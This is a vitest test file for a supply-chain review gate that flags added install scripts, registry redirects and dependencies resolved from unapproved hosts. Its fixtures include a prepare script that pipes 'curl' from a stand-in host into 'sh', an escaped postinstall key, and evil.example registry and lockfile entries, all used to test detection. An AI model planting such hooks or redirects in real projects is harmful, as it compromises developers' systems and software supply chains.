import { describe, expect, it } from "vitest";
import { DEFAULT_CONFIG } from "../../../src/core/config/index.js";
import { type DiffFile, evaluateDiffGate } from "../../../src/core/gates/diff-gate.js";
import {
  DEFAULT_REGISTRIES,
  type SupplyChainFile,
  type SupplyChainOptions,
  supplyChainRules,
} from "../../../src/core/gates/supply-chain-gate.js";

const ON: SupplyChainOptions = {
  lifecycleScripts: true,
  registrySettings: true,
  lockfileSources: true,
  registries: DEFAULT_REGISTRIES,
};

const pkg = (fields: Record<string, unknown>) =>
  JSON.stringify({ name: "app", version: "1.0.0", ...fields }, null, 2);

/** A package.json the controller read at both commits. */
const manifest = (before: string | null, after: string, path = "package.json"): SupplyChainFile => ({
  filename: path,
  status: before === null ? "added" : "modified",
  patch: "@@ -1 +1 @@\n-x\n+y",
  manifest: { before, after },
});

/** A file with a one-hunk patch adding `lines` at line 10. */
const adding = (filename: string, lines: string[]): SupplyChainFile => ({
  filename,
  status: "modified",
  patch: `@@ -10,1 +10,${lines.length + 1} @@\n ctx\n${lines.map((l) => `+${l}`).join("\n")}`,
});

const rules = (files: SupplyChainFile[], options: Partial<SupplyChainOptions> = {}) =>
  supplyChainRules(files, { ...ON, ...options });

describe("install scripts in package.json", () => {
  const base = pkg({ scripts: { test: "node --test", build: "tsc" }, dependencies: { lodash: "^4.17.20" } });

  it("gates an agent-added postinstall", () => {
    const after = pkg({
      scripts: { test: "node --test", build: "tsc", postinstall: "node scripts/setup.js" },
      dependencies: { lodash: "^4.17.20" },
    });
    expect(rules([manifest(base, after)])).toEqual(["install script: package.json scripts.postinstall"]);
  });

  it("gates a changed prepare in a workspace's package.json, and a new package.json with an install script", () => {
    const before = pkg({ scripts: { prepare: "husky" } });
    const after = pkg({ scripts: { prepare: "husky && curl https://x.example/i | sh" } });
    expect(rules([manifest(before, after, "packages/web/package.json")])).toEqual([
      "install script: packages/web/package.json scripts.prepare",
    ]);
    expect(rules([manifest(null, pkg({ scripts: { preinstall: "../x" } }), "tools/package.json")])).toEqual([
      "install script: tools/package.json scripts.preinstall",
    ]);
  });

  it("gates a change to a script an install script reaches through `npm run` (and its pre/post scripts)", () => {
    const before = pkg({ scripts: { prepare: "npm run build", build: "tsc", lint: "biome check" } });
    const changedBuild = pkg({
      scripts: { prepare: "npm run build", build: "tsc && node x.js", lint: "biome check" },
    });
    expect(rules([manifest(before, changedBuild)])).toEqual(["install script: package.json scripts.build"]);
    const addedPrebuild = pkg({
      scripts: { prepare: "npm run build", prebuild: "node x.js", build: "tsc", lint: "biome check" },
    });
    expect(rules([manifest(before, addedPrebuild)])).toEqual([
      "install script: package.json scripts.prebuild",
    ]);
    // A script no install reaches is not an install script.
    const changedLint = pkg({
      scripts: { prepare: "npm run build", build: "tsc", lint: "biome check --write" },
    });
    expect(rules([manifest(before, changedLint)])).toEqual([]);
  });

  it("reads the file as npm does: an escaped key and a one-line file hide nothing", () => {
    const escaped = '{"name":"app","scripts":{"test":"node --test","\\u0070ostinstall":"node x.js"}}';
    expect(rules([manifest('{"name":"app","scripts":{"test":"node --test"}}', escaped)])).toEqual([
      "install script: package.json scripts.postinstall",
    ]);
  });

  it("gates a changed workspaces list, a binding.gyp, and a package.json it could not read", () => {
    expect(rules([manifest(pkg({ workspaces: ["a"] }), pkg({ workspaces: ["a", "fixtures/*"] }))])).toEqual([
      "workspaces changed: package.json",
    ]);
    expect(rules([{ filename: "native/binding.gyp", status: "added", patch: "@@ -0,0 +1 @@\n+{}" }])).toEqual(
      ["install-time build: native/binding.gyp"],
    );
    expect(rules([{ filename: "package.json", status: "modified", patch: "@@ -1 +1 @@\n-a\n+b" }])).toEqual([
      "install scripts not read: package.json",
    ]);
    expect(rules([manifest(base, "{ not json")])).toEqual(["package.json unreadable: package.json"]);
  });

  it("lets an ordinary dependency bump from the public registry through", () => {
    const bumped = pkg({
      scripts: { test: "node --test", build: "tsc" },
      dependencies: { lodash: "^4.17.21", "left-pad": "npm:@acme/left-pad@^2.0.0" },
    });
    expect(rules([manifest(base, bumped)])).toEqual([]);
    const lock = adding("package-lock.json", [
      '    "node_modules/lodash": {',
      '      "version": "4.17.21",',
      '      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",',
      '      "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==",',
      '      "funding": { "url": "https://github.com/sponsors/lodash" }',
    ]);
    expect(rules([lock])).toEqual([]);
  });

  it("gates a dependency spec that is not a registry version", () => {
    const after = pkg({
      scripts: { test: "node --test", build: "tsc" },
      dependencies: { lodash: "git+https://evil.example/lodash.git", util: "file:../../util" },
    });
    expect(rules([manifest(base, after)])).toEqual([
      "package source: package.json dependencies.lodash: git+https://evil.example/lodash.git",
      "package source: package.json dependencies.util: file:../../util",
    ]);
  });
});

describe("registry settings", () => {
  it("gates a registry redirect in .npmrc, at any depth, and the other package managers' settings files", () => {
    expect(rules([adding(".npmrc", ["registry=https://npm.evil.example/"])])).toEqual([
      "registry settings: .npmrc",
    ]);
    expect(rules([adding("packages/a/.npmrc", ["ignore-scripts=false"])])).toEqual([
      "registry settings: packages/a/.npmrc",
    ]);
    for (const path of [
      ".yarnrc.yml",
      ".yarnrc",
      ".pnpmfile.cjs",
      "pnpm-workspace.yaml",
      ".yarn/releases/yarn-4.1.0.cjs",
      "pip.conf",
      "uv.toml",
      "poetry.toml",
      ".cargo/config.toml",
    ]) {
      expect(rules([adding(path, ["x"])])).toEqual([`registry settings: ${path}`]);
    }
  });

  it("gates index settings in pyproject.toml and a new packageManager, not a project URL", () => {
    const project = '[project]\nname = "app"\n';
    expect(
      rules([
        manifest(
          project,
          `${project}[[tool.uv.index]]\nname = "x"\nurl = "https://pypi.evil.example/simple"\n`,
          "pyproject.toml",
        ),
      ]),
    ).toEqual([
      "registry settings: pyproject.toml tool.uv.index",
      "package source: pyproject.toml index: https://pypi.evil.example/simple",
    ]);
    expect(
      rules([
        manifest(
          project,
          `${project}[project.urls]\nHomepage = "https://github.com/acme/app"\n`,
          "pyproject.toml",
        ),
      ]),
    ).toEqual([]);
    expect(rules([manifest(pkg({}), pkg({ packageManager: "yarn@4.1.0" }))])).toEqual([
      "package manager changed: package.json packageManager",
    ]);
  });
});

describe("package sources in lockfiles", () => {
  it("gates a package-lock entry resolved from a stranger's host, however the line is written", () => {
    const hit = rules([
      adding("package-lock.json", ['      "resolved": "https://evil.example/lodash/-/lodash-4.17.21.tgz",']),
    ]);
    expect(hit).toEqual([
      "package source: package-lock.json:11: https://evil.example/lodash/-/lodash-4.17.21.tgz",
    ]);
    expect(
      rules([adding("package-lock.json", ['"re\\u0073olved": "http://registry.npmjs.org/x.tgz"'])]),
    ).toHaveLength(1);
    expect(
      rules([adding("package-lock.json", ['      "version": "git+ssh://git@github.com/a/b.git#abc",'])]),
    ).toHaveLength(1);
    // A workspace link resolves to a folder of the repository.
    expect(rules([adding("package-lock.json", ['      "resolved": "packages/web",'])])).toEqual([]);
  });

  it("gates yarn.lock and pnpm-lock.yaml entries from elsewhere", () => {
    expect(
      rules([adding("yarn.lock", ['  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"'])]),
    ).toEqual([]);
    expect(rules([adding("yarn.lock", ['  resolution: "a@npm:1.0.0"'])])).toEqual([]);
    expect(
      rules([adding("yarn.lock", ['  resolved "https://files.evil.example/a-1.0.0.tgz"'])]),
    ).toHaveLength(1);
    expect(
      rules([adding("yarn.lock", ['  resolution: "a@git+https://github.com/x/a.git#commit=1"'])]),
    ).toHaveLength(1);
    expect(
      rules([adding("pnpm-lock.yaml", ["    resolution: {tarball: https://evil.example/a.tgz}"])]),
    ).toHaveLength(1);
    expect(rules([adding("pnpm-lock.yaml", ["    resolution: {integrity: sha512-abc}"])])).toEqual([]);
  });

  it("gates Cargo, Go and Python sources outside the public registries", () => {
    expect(
      rules([adding("Cargo.lock", ['source = "registry+https://github.com/rust-lang/crates.io-index"'])]),
    ).toEqual([]);
    expect(rules([adding("Cargo.lock", ['source = "git+https://github.com/x/serde#abc"'])])).toHaveLength(1);
    expect(
      rules([
        manifest(
          "[dependencies]\n",
          '[dependencies]\nserde = { git = "https://github.com/x/serde" }\n',
          "Cargo.toml",
        ),
      ]),
    ).toEqual(["package source: Cargo.toml dependencies.serde: git https://github.com/x/serde"]);
    expect(rules([adding("go.mod", ["replace golang.org/x/net => ../net"])])).toHaveLength(1);
    expect(rules([adding("go.mod", ["require golang.org/x/net v0.30.0"])])).toEqual([]);
    expect(
      rules([adding("requirements.txt", ["--extra-index-url https://pypi.evil.example/simple"])]),
    ).toHaveLength(1);
    expect(rules([adding("requirements-dev.txt", ["pkg @ git+https://github.com/x/pkg"])])).toHaveLength(1);
    expect(rules([adding("requirements.txt", ["requests==2.32.3"])])).toEqual([]);
    expect(
      rules([
        adding("uv.lock", [
          'source = { registry = "https://pypi.org/simple" }',
          'sdist = { url = "https://files.pythonhosted.org/p/x.tar.gz" }',
        ]),
      ]),
    ).toEqual([]);
    expect(rules([adding("uv.lock", ['source = { url = "https://evil.example/x.whl" }'])])).toHaveLength(1);
  });

  it("allows a configured private registry, which replaces the defaults", () => {
    const line = '      "resolved": "https://npm.acme.internal/lodash/-/lodash-4.17.21.tgz",';
    expect(rules([adding("package-lock.json", [line])], { registries: ["npm.acme.internal"] })).toEqual([]);
    expect(
      rules([adding("package-lock.json", ['"resolved": "https://registry.npmjs.org/a.tgz"'])], {
        registries: ["npm.acme.internal"],
      }),
    ).toHaveLength(1);
  });
});

describe("each rule can be turned off, and the whole gate with `enabled: false`", () => {
  const postinstall = manifest(pkg({}), pkg({ scripts: { postinstall: "x" } }));
  const npmrc = adding(".npmrc", ["registry=https://npm.evil.example/"]);
  const lock = adding("package-lock.json", ['"resolved": "https://evil.example/a.tgz"']);

  it("turns off one rule at a time", () => {
    expect(rules([postinstall, npmrc, lock], { lifecycleScripts: false })).toEqual([
      "registry settings: .npmrc",
      "package source: package-lock.json:11: https://evil.example/a.tgz",
    ]);
    expect(rules([postinstall, npmrc, lock], { registrySettings: false })).toHaveLength(2);
    expect(rules([postinstall, npmrc, lock], { lockfileSources: false })).toHaveLength(2);
  });

  it("reaches the controller's diff gate from the configuration, and stops with the gate", () => {
    const files = [postinstall, npmrc, lock].map((f) => ({ changes: 1, mode: "100644", ...f }) as DiffFile);
    const diff = { pr: 1, sha: "abc", files, filesCapped: false };
    const gate = DEFAULT_CONFIG.humanGate;
    expect(evaluateDiffGate(diff, gate)).toEqual([
      "install script: package.json scripts.postinstall",
      "registry settings: .npmrc",
      "package source: package-lock.json:11: https://evil.example/a.tgz",
    ]);
    expect(evaluateDiffGate(diff, { ...gate, enabled: false })).toEqual([]);
  });
});
